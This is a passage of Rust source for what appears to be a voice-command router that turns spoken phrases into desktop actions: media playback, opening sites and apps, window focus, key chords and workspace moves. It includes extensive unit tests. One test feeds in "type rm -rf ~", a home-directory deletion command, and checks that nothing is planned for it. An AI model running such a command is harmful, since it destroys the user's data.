/// and a trailing "app" ("the firefox window" → "firefox").
fn spoken_name(target: &str) -> String {
    let names = target_names(target);
    let last = names.last().copied().unwrap_or(target);
    app_forms(last).pop().unwrap_or_else(|| last.to_owned())
}

/// Up to [`MAX_CLOSE_NAMES`] of `candidates` that look like `spoken`, most similar first:
/// one contains the other (at least three letters of it), or they are a few typos apart
/// (one edit for short names, two from five letters, three from nine), comparing lowercase
/// letters and digits only.
fn close_names(spoken: &str, candidates: Vec<String>) -> Vec<String> {
    let key = |text: &str| -> Vec<char> {
        text.to_lowercase()
            .chars()
            .filter(|c| c.is_alphanumeric())
            .collect()
    };
    let wanted = key(spoken);
    if wanted.len() < 2 {
        return Vec::new();
    }
    let mut scored: Vec<(usize, String)> = Vec::new();
    for candidate in candidates {
        let have = key(&candidate);
        if have.is_empty() || have == wanted {
            continue;
        }
        let (short, long) = if have.len() < wanted.len() {
            (&have, &wanted)
        } else {
            (&wanted, &have)
        };
        let contained = short.len() >= 3 && long.windows(short.len()).any(|w| w == &short[..]);
        let allowed = match short.len() {
            0..=4 => 1,
            5..=8 => 2,
            _ => 3,
        };
        let score = if contained {
            Some(0)
        } else {
            edit_distance(&wanted, &have, allowed)
        };
        if let Some(score) = score {
            scored.push((score, candidate));
        }
    }
    scored.sort_by(|a, b| a.0.cmp(&b.0).then_with(|| a.1.cmp(&b.1)));
    let mut out: Vec<String> = Vec::new();
    for (_, name) in scored {
        if !out.iter().any(|o| o.eq_ignore_ascii_case(&name)) {
            out.push(name);
        }
        if out.len() == MAX_CLOSE_NAMES {
            break;
        }
    }
    out
}

/// The Levenshtein distance between `a` and `b` (strsim's) when it is at most `limit`.
fn edit_distance(a: &[char], b: &[char], limit: usize) -> Option<usize> {
    if a.len().abs_diff(b.len()) > limit {
        return None;
    }
    Some(strsim::generic_levenshtein(&a.to_vec(), &b.to_vec())).filter(|&d| d <= limit)
}

/// The names a spoken target may be: as said, and without a trailing "window"/"windows"
/// ("the foot window" is foot).
fn target_names(target: &str) -> Vec<&str> {
    let mut names = vec![target];
    for suffix in ["windows", "window"] {
        if let Some(rest) = strip_word_suffix(target, suffix).filter(|r| !r.is_empty()) {
            names.push(rest);
            break;
        }
    }
    names
}

/// The app_id of a context window that `target` names, if there is a context. A likelier
/// match of any form of the name beats a looser one of another ([`Likeness`]): "xx" focuses
/// the `xx` window before the `X-X` one, whichever comes first.
fn window_named<'a>(target: &str, context: Option<&'a Context>) -> Option<&'a str> {
    let context = context?;
    let forms: Vec<String> = target_names(target)
        .into_iter()
        .flat_map(app_forms)
        .collect();
    Likeness::ALL.into_iter().find_map(|likeness| {
        forms
            .iter()
            .find_map(|form| context.window_app_as(form, likeness))
    })
}

/// True when `text` is a focus or close phrase ("switch to foot", "close foot"), whose
/// target may be a window of the context.
pub fn names_a_window(text: &str, curated: &Curated) -> bool {
    curated
        .focus_verbs
        .iter()
        .chain(&curated.close_verbs)
        .any(|verb| strip_word_prefix(text, verb).is_some_and(|rest| !rest.is_empty()))
}

/// The installed application `target` names.
fn app_named(target: &str, apps: &dyn AppLookup) -> Option<AppEntry> {
    target_names(target)
        .into_iter()
        .find_map(|name| apps.find(name))
}

/// Rule 5: focus or start the application `target` names.
fn switch_to(target: &str, sources: &Sources<'_>) -> Option<Matched> {
    if let Some(app) = app_named(target, sources.apps) {
        let mut args = json!({
            "app": app.id,
            "desktop_id": format!("{}.desktop", app.id),
        });
        if let Some(wm_class) = &app.wm_class {
            args["wm_class"] = Value::String(wm_class.clone());
        }
        return Some(Matched {
            rule: "ensure_app",
            op: "ensure_app",
            message: format!("switch to {} ({})", app.name, app.id),
            args,
            confirm: false,
        });
    }
    if let Some(app_id) =
        window_named(target, sources.context).or_else(|| profile_window(target, sources))
    {
        return Some(Matched {
            rule: "focus_app",
            op: "focus_app",
            message: format!("focus the {app_id} window"),
            args: json!({"app": app_id}),
            confirm: false,
        });
    }
    profile_launch(target, sources)
}

/// Focus or start the application of the profile `target` names ("firefox", "the vs code
/// app"), through its `launch` argv, when no desktop entry is installed for it.
fn profile_launch(target: &str, sources: &Sources<'_>) -> Option<Matched> {
    let forms = app_forms(target);
    let profile = target_names(target)
        .into_iter()
        .chain(forms.iter().map(String::as_str))
        .find_map(|name| sources.profiles.named(name))?;
    // An installed entry of the profile's application (its id or StartupWMClass is one of
    // the profile's app_ids): launched as any installed application is.
    if let Some(app) = sources.apps.all().iter().find(|a| {
        profile.has_app_id(&a.id) || a.wm_class.as_deref().is_some_and(|w| profile.has_app_id(w))
    }) {
        return Some(Matched {
            rule: "launch_app",
            op: "launch_app",
            message: format!("launch {} ({})", app.name, app.id),
            args: json!({"app_id": app.id, "name": app.name}),
            confirm: false,
        });
    }
    let profile = Some(profile).filter(|p| !p.launch.is_empty())?;
    let app = profile.app_ids.first().unwrap_or(&profile.id);
    Some(Matched {
        rule: "ensure_app",
        op: "ensure_app",
        message: format!("open {} ({})", profile.name, profile.launch.join(" ")),
        args: json!({"app": app, "argv": profile.launch}),
        confirm: false,
    })
}

/// The `app_id` of an open window of the application profile `target` names ("vs code" →
/// `code`).
fn profile_window<'a>(target: &str, sources: &Sources<'a>) -> Option<&'a str> {
    let context = sources.context?;
    target_names(target).into_iter().find_map(|name| {
        if let Some(profile) = sources.profiles.named(name) {
            return context
                .app_ids
                .iter()
                .find(|id| profile.has_app_id(id))
                .map(String::as_str);
        }
        // "the terminal", "my browser", "the editor": the first open window (the focused
        // one first) whose profile is of that kind.
        let kind = kind_named(name)?;
        context
            .app_ids
            .iter()
            .find(|id| {
                sources
                    .profiles
                    .for_app_id(id)
                    .is_some_and(|p| p.kind == kind)
            })
            .map(String::as_str)
    })
}

/// The kind of application a common noun names: "terminal", "browser", "code editor".
fn kind_named(name: &str) -> Option<Kind> {
    let name = ["the ", "my ", "a "]
        .iter()
        .find_map(|a| name.strip_prefix(a))
        .unwrap_or(name);
    match name {
        "terminal" | "terminal emulator" | "console" | "shell" => Some(Kind::Terminal),
        "browser" | "web browser" => Some(Kind::Browser),
        "editor" | "code editor" | "ide" => Some(Kind::Editor),
        _ => None,
    }
}

/// Rule 6: close the application `target` names; an open window first.
fn close(target: &str, sources: &Sources<'_>) -> Option<Matched> {
    if let Some(app_id) =
        window_named(target, sources.context).or_else(|| profile_window(target, sources))
    {
        return Some(Matched {
            rule: "close_app",
            op: "close_app",
            message: format!("close the {app_id} window"),
            args: json!({"app": app_id}),
            confirm: false,
        });
    }
    let app = app_named(target, sources.apps)?;
    Some(Matched {
        rule: "close_app",
        op: "close_app",
        message: format!("close {} ({})", app.name, app.id),
        args: json!({"app": app.id}),
        confirm: false,
    })
}

/// The non-empty remainders of `text` after each verb of `verbs` it starts with.
fn targets<'a, V: AsRef<str>>(text: &'a str, verbs: &'a [V]) -> impl Iterator<Item = &'a str> + 'a {
    verbs
        .iter()
        .filter_map(move |verb| strip_word_prefix(text, verb.as_ref()))
        .filter(|rest| !rest.is_empty())
}

/// A playback command and the player it names, if `text` is one.
fn media(text: &str) -> Option<(MediaCommand, Option<String>)> {
    if let Some(command) = media_phrase(text) {
        return Some((command, None));
    }
    // "<command> on|in <player>"
    for separator in [" on ", " in "] {
        if let Some((head, player)) = text.rsplit_once(separator) {
            let player = strip_word_prefix(player, "the")
                .filter(|p| !p.is_empty())
                .unwrap_or(player);
            let plausible = !player.is_empty()
                && player.split(' ').count() <= 3
                && !NOT_PLAYERS.contains(&player);
            if plausible {
                if let Some(command) = media_phrase(head) {
                    return Some((command, Some(known_player(player))));
                }
            }
        }
    }
    // "<known player> <command>" ("spotify pause")
    for player in KNOWN_PLAYERS {
        if let Some(tail) = strip_word_prefix(text, player).filter(|t| !t.is_empty()) {
            if let Some(command) = media_phrase(tail) {
                return Some((command, Some((*player).to_owned())));
            }
        }
    }
    // "<command> <known player>"
    for player in KNOWN_PLAYERS {
        if let Some(head) = strip_word_suffix(text, player).filter(|h| !h.is_empty()) {
            if let Some(command) = media_phrase(head) {
                return Some((command, Some((*player).to_owned())));
            }
        }
    }
    None
}

/// A spoken player name, snapped to the known player it was surely meant as ("v l c" →
/// `vlc`, "spotify fy" → `spotify`, by the decision head's [`crate::decide::similarity`]);
/// any other name is kept as said (the desktop plugin matches it against the players on the
/// bus).
fn known_player(spoken: &str) -> String {
    KNOWN_PLAYERS
        .iter()
        .map(|p| (crate::decide::similarity(spoken, p), *p))
        .filter(|(score, _)| *score >= 0.85)
        .max_by(|a, b| a.0.total_cmp(&b.0))
        .map_or_else(|| spoken.to_owned(), |(_, p)| p.to_owned())
}

/// The command a whole phrase (without a player) stands for.
fn media_phrase(text: &str) -> Option<MediaCommand> {
    use MediaCommand::*;
    let fixed: &[(&str, MediaCommand)] = &[
        ("play pause", PlayPause),
        ("pause play", PlayPause),
        ("play or pause", PlayPause),
        ("toggle play", PlayPause),
        ("toggle pause", PlayPause),
        ("toggle play pause", PlayPause),
        ("toggle playback", PlayPause),
        ("toggle music", PlayPause),
        ("toggle the music", PlayPause),
        ("stop playing", Stop),
        ("keep playing", Play),
        ("continue playing", Play),
        ("continue playback", Play),
        ("prev", Previous),
        ("last track", Previous),
        ("last song", Previous),
        ("go back a track", Previous),
        ("go back a song", Previous),
        ("go back one track", Previous),
        ("go back one song", Previous),
        ("back a track", Previous),
        ("back a song", Previous),
        ("back one track", Previous),
        ("back one song", Previous),
        ("volume up", VolumeUp),
        ("turn the volume up", VolumeUp),
        ("turn up the volume", VolumeUp),
        ("turn it up", VolumeUp),
        ("louder", VolumeUp),
        ("increase the volume", VolumeUp),
        ("raise the volume", VolumeUp),
        ("volume down", VolumeDown),
        ("turn the volume down", VolumeDown),
        ("turn down the volume", VolumeDown),
        ("turn it down", VolumeDown),
        ("quieter", VolumeDown),
        ("softer", VolumeDown),
        ("decrease the volume", VolumeDown),
        ("lower the volume", VolumeDown),
        ("mute", Mute),
        ("mute it", Mute),
        ("mute the music", Mute),
        ("mute the sound", Mute),
        ("unmute", Unmute),
        ("unmute it", Unmute),
        ("unmute the music", Unmute),
        ("unmute the sound", Unmute),
    ];
    if let Some((_, command)) = fixed.iter().find(|(phrase, _)| *phrase == text) {
        return Some(*command);
    }
    // "play the next song", "skip to the next one", "go back to the previous track": a
    // verb of moving, an article, a direction, and what is played. "last" (the one before)
    // needs the word for what is played, since "go to the last" may mean other things.
    for verb in MEDIA_MOVES {
        let Some(rest) = strip_word_prefix(text, verb) else {
            continue;
        };
        let rest = strip_word_prefix(rest, "the").unwrap_or(rest);
        for (direction, command, bare) in [
            ("next", Next, true),
            ("previous", Previous, true),
            ("last", Previous, false),
        ] {
            if let Some(what) = strip_word_prefix(rest, direction)
                && TRACK_WORDS.contains(&what)
                && (bare || !what.is_empty())
            {
                return Some(command);
            }
        }
    }
    let (verb, rest) = text.split_once(' ').unwrap_or((text, ""));
    let (allowed, command): (&[&str], MediaCommand) = match verb {
        "play" | "resume" | "unpause" => (MEDIA_OBJECTS, Play),
        "pause" => (MEDIA_OBJECTS, Pause),
        "stop" => (MEDIA_OBJECTS, Stop),
        "next" => (TRACK_WORDS, Next),
        "skip" => (SKIP_OBJECTS, Next),
        "previous" => (TRACK_WORDS, Previous),
        _ => return None,
    };
    allowed.contains(&rest).then_some(command)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::text::{normalize, strip_fillers};

    fn apps() -> Vec<AppEntry> {
        vec![
            AppEntry::new("firefox", "Firefox", Some("Web Browser"), &["internet"])
                .with_wm_class("firefox"),
            AppEntry::new("marker-writer", "Marker Writer", None, &[]),
            AppEntry::new("org.gnome.Calendar", "Calendar", None, &["events"]),
            AppEntry::new("spotify", "Spotify", Some("Music Player"), &[]),
            AppEntry::new("youtube-app", "YouTube", None, &[]),
        ]
    }

    /// The built-in catalog, parsed once for all tests.
    fn catalog() -> &'static Catalog {
        static CATALOG: std::sync::OnceLock<Catalog> = std::sync::OnceLock::new();
        CATALOG.get_or_init(|| Catalog::builtin().expect("built-in catalog"))
    }

    /// The built-in phrases, parsed once for all tests.
    fn curated() -> &'static Curated {
        static CURATED: std::sync::OnceLock<Curated> = std::sync::OnceLock::new();
        CURATED.get_or_init(|| Curated::builtin().expect("built-in phrases"))
    }

    fn run(utterance: &str) -> Option<Matched> {
        run_with(utterance, None, &PhraseTable::new())
    }

    fn run_with(
        utterance: &str,
        context: Option<&Context>,
        binds: &PhraseTable,
    ) -> Option<Matched> {
        let normalized = normalize(utterance);
        let apps = apps();
        let sources = Sources {
            catalog: catalog(),
            apps: &apps,
            curated: curated(),
            binds,
            context,
            utterance,
            profiles: crate::rules::builtin_profiles(),
            words: crate::rules::builtin_words(),
        };
        plan(strip_fillers(&normalized), &sources)
    }

    fn summary(utterance: &str) -> Option<(&'static str, &'static str, Value)> {
        run(utterance).map(|m| (m.rule, m.op, m.args))
    }

    fn media_of(utterance: &str) -> Option<Value> {
        match summary(utterance) {
            Some(("media", "media", args)) => Some(args),
            _ => None,
        }
    }

    #[test]
    fn media_commands() {
        let cases = [
            ("play", "play"),
            ("Resume.", "play"),
            ("unpause the music", "play"),
            ("pause", "pause"),
            ("Pause!", "pause"),
            ("please pause the video", "pause"),
            ("stop", "stop"),
            ("stop playing", "stop"),
            ("next", "next"),
            ("next track", "next"),
            ("Next song, please.", "next"),
            ("skip", "next"),
            ("skip this song", "next"),
            ("play the next track", "next"),
            ("previous", "previous"),
            ("previous track", "previous"),
            ("previous song", "previous"),
            ("go back a track", "previous"),
            ("play pause", "play_pause"),
            ("play/pause", "play_pause"),
            ("toggle playback", "play_pause"),
            ("hey utter, could you play?", "play"),
        ];
        for (utterance, command) in cases {
            assert_eq!(
                media_of(utterance),
                Some(json!({"command": command})),
                "{utterance}"
            );
        }
    }

    #[test]
    fn media_with_a_player() {
        let cases = [
            ("pause spotify", "pause", "spotify"),
            ("Pause Spotify.", "pause", "spotify"),
            ("play on spotify", "play", "spotify"),
            ("next track on VLC", "next", "vlc"),
            ("pause the music in the mpv", "pause", "mpv"),
            ("pause on my player", "pause", "my player"),
            ("skip in firefox", "next", "firefox"),
        ];
        for (utterance, command, player) in cases {
            assert_eq!(
                media_of(utterance),
                Some(json!({"command": command, "player": player})),
                "{utterance}"
            );
        }
    }

    #[test]
    fn things_that_are_not_media() {
        for utterance in [
            "play despacito",
            "play on repeat",
            "back",
            "go back",
            "stop the world",
            "pause my thoughts",
            "next week",
            "skip breakfast",
        ] {
            assert_eq!(summary(utterance), None, "{utterance}");
        }
    }

    #[test]
    fn sites() {
        let cases = [
            ("open youtube", "https://www.youtube.com"),
            ("Open YouTube!", "https://www.youtube.com"),
            ("go to hacker news", "https://news.ycombinator.com"),
            ("visit the GitHub website", "https://github.com"),
            ("show me google maps", "https://www.google.com/maps"),
            ("show maps", "https://www.google.com/maps"),
            ("open gmail please", "https://mail.google.com"),
            ("take me to crates.io", "https://crates.io"),
            ("go to docs dot rs", "https://docs.rs"),
            ("open youtube dot com", "https://www.youtube.com"),
            ("navigate to stackoverflow", "https://stackoverflow.com"),
        ];
        let catalog = Catalog::builtin().expect("the built-in catalog parses");
        for (utterance, url) in cases {
            // The site is named as the catalog writes it, whatever was said.
            let name = catalog
                .sites()
                .iter()
                .find(|s| s.url == url)
                .map(|s| s.name.clone())
                .expect("a catalog site");
            assert_eq!(
                summary(utterance),
                Some(("open_site", "ensure_url", json!({"url": url, "site": name}))),
                "{utterance}"
            );
        }
        assert_eq!(
            summary("open you tube").map(|s| s.2),
            Some(json!({"url": "https://www.youtube.com", "site": "YouTube"}))
        );
        assert_eq!(
            summary("go to hacker news").map(|s| s.2["site"].clone()),
            Some(json!("Hacker News"))
        );
    }

    #[test]
    fn apps_are_launched_with_id_and_name() {
        let cases = [
            ("open marker writer", "marker-writer", "Marker Writer"),
            ("Launch Firefox.", "firefox", "Firefox"),
            ("start the web browser", "firefox", "Firefox"),
            ("run marker writer app", "marker-writer", "Marker Writer"),
            ("open spotify", "spotify", "Spotify"),
        ];
        for (utterance, id, name) in cases {
            assert_eq!(
                summary(utterance),
                Some((
                    "launch_app",
                    "launch_app",
                    json!({"app_id": id, "name": name})
                )),
                "{utterance}"
            );
        }
    }

    #[test]
    fn sites_beat_apps_and_go_to_never_launches() {
        // Both a site and an app are called YouTube / Calendar: the site wins.
        assert_eq!(summary("open youtube").map(|s| s.0), Some("open_site"));
        assert_eq!(summary("open calendar").map(|s| s.0), Some("open_site"));
        // "launch" is not a site verb, so it reaches the app.
        assert_eq!(
            summary("launch youtube"),
            Some((
                "launch_app",
                "launch_app",
                json!({"app_id": "youtube-app", "name": "YouTube"})
            ))
        );
        // "go to" focuses or starts an application (rule 5); "visit" is for sites only.
        assert_eq!(
            summary("go to marker writer").map(|s| s.0),
            Some("ensure_app")
        );
        assert_eq!(summary("visit firefox"), None);
    }

    #[test]
    fn domains() {
        let cases = [
            ("open example.com", "open_domain", "https://example.com"),
            (
                "visit my-site.co.uk",
                "open_domain",
                "https://my-site.co.uk",
            ),
            ("open example dot org", "open_domain", "https://example.org"),
            (
                "show www.example.net",
                "open_domain",
                "https://www.example.net",
            ),
            // A host that is also in the catalog is found as the site.
            (
                "Go to news.ycombinator.com.",
                "open_site",
                "https://news.ycombinator.com",
            ),
        ];
        for (utterance, rule, url) in cases {
            let matched = summary(utterance);
            assert_eq!(
                matched.as_ref().map(|m| (m.0, m.1, m.2["url"].clone())),
                Some((rule, "ensure_url", json!(url))),
                "{utterance}"
            );
            // A bare host name is its own site name; a catalog host gets the catalog's name.
            let site = matched.map(|m| m.2["site"].clone()).unwrap_or_default();
            if rule == "open_domain" {
                assert_eq!(
                    site,
                    json!(url.trim_start_matches("https://")),
                    "{utterance}"
                );
            } else {
                assert_eq!(site, json!("Hacker News"), "{utterance}");
            }
        }
        // Only plain host names.
        for utterance in [
            "open example",
            "open 1.2.3.4",
            "launch example.com",
            "open example.c0m",
        ] {
            assert_eq!(summary(utterance), None, "{utterance}");
        }
    }

    #[test]
    fn nothing_matches_nonsense_or_bare_verbs() {
        for utterance in [
            "blorp the frobnicator",
            "open",
            "go to",
            "please",
            "",
            "what time is it",
        ] {
            assert_eq!(summary(utterance), None, "{utterance}");
        }
    }

    #[test]
    fn messages_describe_the_step() {
        let m = run("open youtube").expect("match");
        assert_eq!(m.message, "open YouTube (https://www.youtube.com)");
        let m = run("pause spotify").expect("match");
        assert_eq!(m.message, "pause playback on spotify");
        let m = run("open marker writer").expect("match");
        assert_eq!(m.message, "launch Marker Writer (marker-writer)");
    }

    fn niri_of(utterance: &str) -> Option<Value> {
        match summary(utterance) {
            Some(("compositor", "niri", args)) => Some(args),
            _ => None,
        }
    }

    fn context(value: Value) -> Context {
        Context::from_param(Some(&value))
            .expect("a valid context")
            .expect("not null")
    }

    /// The steps planned for `utterance` with a window of `focused` focused (and open).
    fn steps_in(utterance: &str, focused: &str) -> Vec<(&'static str, Value)> {
        let ctx = context(json!({
            "focused": {"app_id": focused},
            "windows": [{"app_id": focused}, {"app_id": "foot"}],
        }));
        let normalized = normalize(utterance);
        let apps = apps();
        let binds = PhraseTable::new();
        let sources = Sources {
            catalog: catalog(),
            apps: &apps,
            curated: curated(),
            binds: &binds,
            context: Some(&ctx),
            utterance,
            profiles: crate::rules::builtin_profiles(),
            words: crate::rules::builtin_words(),
        };
        plan_steps(strip_fillers(&normalized), &sources)
            .map(|steps| steps.into_iter().map(|m| (m.op, m.args)).collect())
            .unwrap_or_default()
    }

    #[test]
    fn a_phrase_aimed_at_an_application_focuses_it_first() {
        // "<app> <phrase>", "in <app> <phrase>", "<phrase> into <app>".
        let pressed = steps_in("terminal press enter", "firefox");
        assert_eq!(pressed.len(), 2, "{pressed:?}");
        assert_eq!(pressed[0].0, "focus_app");
        assert_eq!(pressed[0].1["app"], "foot");
        assert_eq!(
            pressed[1],
            ("key", json!({"chord": "Return", "app": "foot"}))
        );
        // Commands and text are not planned from normalised words ("ls -la" would be "ls la").
        assert!(steps_in("in the terminal run ls -la", "firefox").is_empty());
        assert!(steps_in("in the terminal type rm -rf ~", "firefox").is_empty());
        // Without a profile, no common chord (ctrl+z to vim in a terminal suspends it); a key
        // the person names is theirs.
        assert!(steps_in("in calendar undo", "firefox").is_empty());
        let enter = steps_in("calendar press enter", "firefox");
        assert_eq!(enter[1].1["chord"], "Return", "{enter:?}");
        // Two applications named: which one is not known.
        assert!(steps_in("spotify firefox new tab", "foot").is_empty());
        // The terminal's own paste, not the common ctrl+v.
        let pasted = steps_in("paste that into the terminal", "firefox");
        assert_eq!(pasted[1].1["chord"], "ctrl+shift+v", "{pasted:?}");
        // An application named before something that does not act in a window: nothing.
        assert!(steps_in("firefox workspace banana", "foot").is_empty());
        assert!(steps_in("spotify is great", "foot").is_empty());
    }

    #[test]
    fn a_shortcut_said_in_other_words_is_found_by_its_content_words() {
        let chord = |utterance: &str, focused: &str| {
            let steps = steps_in(utterance, focused);
            match steps.as_slice() {
                [("key", args)] => args["chord"].as_str().map(str::to_owned),
                _ => None,
            }
        };
        assert_eq!(
            chord("reopen the tab i just closed", "firefox").as_deref(),
            Some("ctrl+shift+t")
        );
        assert_eq!(
            chord("bring back the closed tab", "firefox").as_deref(),
            Some("ctrl+shift+t")
        );
        assert_eq!(
            chord("zoom out a bit", "firefox").as_deref(),
            Some("ctrl+minus")
        );
        assert_eq!(
            chord("show my history", "firefox").as_deref(),
            Some("ctrl+h")
        );
        assert_eq!(
            chord("go to the third tab", "firefox").as_deref(),
            Some("ctrl+3")
        );
        assert_eq!(
            chord("go to the end of the line", "org.gnome.TextEditor").as_deref(),
            Some("End")
        );
        // Said about oneself, it asks for nothing; in a terminal the common chords stay out.
        assert_eq!(chord("i love this song", "spotify"), None);
        assert_eq!(chord("go to the end of the line", "foot"), None);
        // Noun phrases and remarks press nothing; nor does more than the most presses.
        for remark in [
            "the undo",
            "my history",
            "save me",
            "forward it to me",
            "the end of the line for me",
            "in zoom",
            "undo fifty times",
            "google it",
            "search that",
        ] {
            assert!(steps_in(remark, "firefox").is_empty(), "{remark}");
        }
        // Repeated: one press, that many times.
        assert_eq!(
            steps_in("undo three times", "org.gnome.TextEditor"),
            [("key", json!({"chord": "ctrl+z", "repeat": 3}))]
        );
    }

    #[test]
    fn an_agent_says_where_it_runs() {
        let spawn = |steps: &[(&str, Value)]| matches!(steps, [("niri", args)] if args["command"] == "spawn");
        assert!(spawn(&steps_in("boot up codex", "firefox")));
        assert!(spawn(&steps_in("start a claude code session", "firefox")));
        assert!(spawn(&steps_in("fire up aider in a terminal", "firefox")));
        // A new terminal asked for: a new window even with one focused.
        assert!(spawn(&steps_in("run codex in a new terminal", "foot")));
        // "here" in a terminal types it there; "here" elsewhere plans nothing.
        let here = steps_in("launch claude code here", "foot");
        assert_eq!(here[0], ("type_text", json!({"text": "claude"})));
        assert!(steps_in("launch claude code here", "firefox").is_empty());
    }

    #[test]
    fn workspace_numbers_and_ordinals() {
        let cases = [
            ("workspace two", 2),
            ("Workspace 2.", 2),
            ("the third workspace", 3),
            ("workspace number 3", 3),
            ("go to workspace 2", 2),
            ("switch to workspace four", 4),
            ("please switch to workspace twenty", 20),
            ("go to the twentieth workspace", 20),
            ("focus workspace twenty one", 21),
            ("jump to the 7th workspace", 7),
            ("show me desktop nine", 9),
            ("go to the second desktop", 2),
            ("workspace 12", 12),
        ];
        for (utterance, n) in cases {
            assert_eq!(
                niri_of(utterance),
                Some(json!({"command": "focus-workspace", "args": [n]})),
                "{utterance}"
            );
        }
        let moves = [
            ("move this to workspace three", 3),
            ("move window to the second workspace", 2),
            ("send it to workspace 5", 5),
            ("move this window to the 3rd workspace", 3),
            ("put this one on workspace 4", 4),
            ("move to workspace number eleven", 11),
        ];
        for (utterance, n) in moves {
            assert_eq!(
                niri_of(utterance),
                Some(json!({"command": "move-window-to-workspace", "args": [n]})),
                "{utterance}"
            );
        }
        for utterance in [
            "workspace zero",
            "workspace",
            "go to workspace 300",
            "the workspace",
        ] {
            assert_eq!(niri_of(utterance), None, "{utterance}");
        }
    }

    #[test]
    fn fixed_compositor_phrases() {
        let cases = [
            ("next workspace", "focus-workspace-down", json!(null)),
            (
                "go to the next workspace",
                "focus-workspace-down",
                json!(null),
            ),
            ("previous workspace", "focus-workspace-up", json!(null)),
            (
                "go back to the last workspace",
                "focus-workspace-previous",
                json!(null),
            ),
            (
                "the other workspace",
                "focus-workspace-previous",
                json!(null),
            ),
            (
                "move this to the next workspace",
                "move-window-to-workspace-down",
                json!(null),
            ),
            (
                "move the window up a workspace",
                "move-window-to-workspace-up",
                json!(null),
            ),
            ("focus left", "focus-column-left", json!(null)),
            ("the window on the left", "focus-column-left", json!(null)),
            ("go right", "focus-column-right", json!(null)),
            ("focus the window below", "focus-window-down", json!(null)),
            ("go up", "focus-window-up", json!(null)),
            ("focus the left monitor", "focus-monitor-left", json!(null)),
            (
                "switch to the right screen",
                "focus-monitor-right",
                json!(null),
            ),
            ("go to the other display", "focus-monitor-next", json!(null)),
            (
                "move this window to the left monitor",
                "move-window-to-monitor-left",
                json!(null),
            ),
            (
                "send it to the screen on the right",
                "move-window-to-monitor-right",
                json!(null),
            ),
            (
                "move window to the top display",
                "move-window-to-monitor-up",
                json!(null),
            ),
            (
                "move this to the bottom screen",
                "move-window-to-monitor-down",
                json!(null),
            ),
            ("maximize", "maximize-column", json!(null)),
            ("Maximise this window!", "maximize-column", json!(null)),
            ("fullscreen", "fullscreen-window", json!(null)),
            ("toggle floating", "toggle-window-floating", json!(null)),
            ("float this window", "move-window-to-floating", json!(null)),
            ("close this window", "close-window", json!(null)),
            ("close it", "close-window", json!(null)),
            ("close window", "close-window", json!(null)),
            ("overview", "toggle-overview", json!(null)),
            ("show the overview", "toggle-overview", json!(null)),
            ("close the overview", "close-overview", json!(null)),
            ("take a screenshot", "screenshot", json!(null)),
            ("screenshot this window", "screenshot-window", json!(null)),
            (
                "take a screenshot of the whole screen",
                "screenshot-screen",
                json!(null),
            ),
            ("next keyboard layout", "switch-layout", json!(["next"])),
            (
                "switch the keyboard layout",
                "switch-layout",
                json!(["next"]),
            ),
            ("previous keyboard layout", "switch-layout", json!(["prev"])),
        ];
        for (utterance, command, args) in cases {
            let mut want = json!({"command": command});
            if !args.is_null() {
                want["args"] = args;
            }
            assert_eq!(niri_of(utterance), Some(want), "{utterance}");
        }
        let m = run("go to workspace two").expect("match");
        assert_eq!(m.message, "compositor: focus-workspace 2");
        let m = run("next keyboard layout").expect("match");
        assert_eq!(m.message, "compositor: switch-layout \"next\"");
    }

    #[test]
    fn every_curated_phrase_reaches_the_compositor_rule() {
        // Neither the media rule nor a built-in site takes a curated phrase away.
        let phrases: Vec<&str> = curated().table.phrases().collect();
        assert!(phrases.len() > 500, "{} phrases", phrases.len());
        for phrase in phrases {
            let utterance = phrase.replace(crate::phrases::SLOT, "3");
            let m = run(&utterance).unwrap_or_else(|| panic!("{utterance:?} planned nothing"));
            assert_eq!(
                (m.rule, m.op),
                ("compositor", "niri"),
                "{utterance:?}: {m:?}"
            );
        }
    }

    #[test]
    fn conflicts_with_sites_apps_and_media() {
        // A catalog site keeps "go to" and "show".
        assert_eq!(summary("go to youtube").map(|s| s.0), Some("open_site"));
        assert_eq!(summary("show maps").map(|s| s.0), Some("open_site"));
        // Workspace words win over applications, applications over nothing.
        assert_eq!(
            niri_of("switch to workspace 2"),
            Some(json!({"command": "focus-workspace", "args": [2]}))
        );
        assert_eq!(
            summary("switch to firefox"),
            Some((
                "ensure_app",
                "ensure_app",
                json!({"app": "firefox", "desktop_id": "firefox.desktop", "wm_class": "firefox"})
            ))
        );
        assert_eq!(
            summary("bring up the marker writer app"),
            Some((
                "ensure_app",
                "ensure_app",
                json!({"app": "marker-writer", "desktop_id": "marker-writer.desktop"})
            ))
        );
        assert_eq!(summary("focus spotify").map(|s| s.0), Some("ensure_app"));
        // "open" still launches; "close" closes an application, "close this window" the window.
        assert_eq!(summary("open firefox").map(|s| s.0), Some("launch_app"));
        assert_eq!(
            summary("close firefox"),
            Some(("close_app", "close_app", json!({"app": "firefox"})))
        );
        assert_eq!(
            summary("quit the firefox window").map(|s| s.2),
            Some(json!({"app": "firefox"}))
        );
        assert_eq!(
            niri_of("close this window"),
            Some(json!({"command": "close-window"}))
        );
        // Media keeps its words.
        assert_eq!(media_of("next"), Some(json!({"command": "next"})));
        assert_eq!(
            media_of("previous track"),
            Some(json!({"command": "previous"}))
        );
        assert_eq!(
            niri_of("next workspace"),
            Some(json!({"command": "focus-workspace-down"}))
        );
        // A host name is still a host name after a focus verb.
        assert_eq!(
            summary("show example.com").map(|s| s.0),
            Some("open_domain")
        );
        // Unknown names stay unplanned.
        assert_eq!(summary("switch to blorp"), None);
        assert_eq!(summary("close blorp"), None);
    }

    #[test]
    fn in_app_rules_take_no_earlier_phrase() {
        // Every curated phrase, and every site verb with a catalog site's name or an alias,
        // is not an in-app phrase at all: the order does not even have to decide.
        for phrase in curated().table.phrases() {
            let utterance = phrase.replace(crate::phrases::SLOT, "3");
            assert_eq!(inapp::plan(&utterance), None, "{utterance:?}");
        }
        for site in catalog().sites() {
            for verb in SITE_VERBS {
                let utterance = format!("{verb} {}", site.name);
                assert_eq!(inapp::plan(&utterance), None, "{utterance:?}");
            }
        }
        for verb in APP_VERBS
            .iter()
            .copied()
            .chain(curated().focus_verbs.iter().map(String::as_str))
            .chain(curated().close_verbs.iter().map(String::as_str))
        {
            for app in apps() {
                let utterance = format!("{verb} {}", app.name);
                assert_eq!(inapp::plan(&utterance), None, "{utterance:?}");
            }
        }
        // The earlier rules keep their phrases through the whole router.
        let cases = [
            ("pause", "media"),
            ("play", "media"),
            ("next track", "media"),
            ("open youtube", "open_site"),
            ("go to hacker news", "open_site"),
            ("close this window", "compositor"),
            ("take a screenshot", "compositor"),
            ("enter fullscreen", "compositor"),
